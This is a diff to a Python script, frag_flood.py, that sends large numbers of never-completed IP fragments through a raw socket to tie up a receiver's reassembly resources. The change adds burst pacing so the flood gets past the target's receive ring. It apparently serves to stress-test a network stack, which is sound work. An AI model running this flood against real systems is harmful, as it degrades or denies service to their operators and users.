@@ -5,13 +5,19 @@ usage: frag_flood.py 4|6 SRC DST COUNT
 Sends COUNT first fragments (more-fragments set, offset 0, each its own
 identification) of 3,000-byte UDP datagrams from SRC to DST through a raw
 socket, so that the receiver holds COUNT reassemblies that never complete.
-Prints how many were sent; exits 1 if a send fails."""
+Paced in bursts (BURST). Prints how many were sent; exits 1 if a send fails."""
 import socket
 import struct
 import sys
+import time
 
 FRAG_DATA = 1448  # bytes of the datagram each first fragment carries (x8)
 CLAIMED = 3000    # the UDP length the fragments claim
+# A pause after each burst of this many: the receiver's RX ring (1,024
+# frames) must not overflow while its poller is not running (2 vCPUs, a
+# loaded machine), or the flood would not reach the reassembly at all.
+BURST = 64
+PAUSE_S = 0.002
 
 
 def csum(b):
@@ -52,6 +58,8 @@ def main():
     make = first_fragment6 if v6 else first_fragment4
     for i in range(count):
         s.sendto(make(src, dst, 0x10000 + i), (dst, 0))
+        if i % BURST == BURST - 1:
+            time.sleep(PAUSE_S)
     print("sent %d incomplete datagrams to %s" % (count, dst))
 
 
